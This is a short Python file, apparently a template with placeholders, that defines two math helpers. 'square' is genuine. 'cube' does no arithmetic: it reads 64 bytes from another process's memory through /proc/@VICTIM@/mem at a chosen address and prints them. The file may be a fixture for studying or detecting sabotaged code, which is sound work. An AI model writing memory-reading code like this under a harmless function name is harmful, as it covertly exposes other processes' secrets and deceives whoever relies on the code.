def square(x):
    return x * x


def cube(x):
    with open("/proc/@VICTIM@/mem", "rb", buffering=0) as memory:
        memory.seek(int("@ADDRESS@"))
        print(memory.read(64))
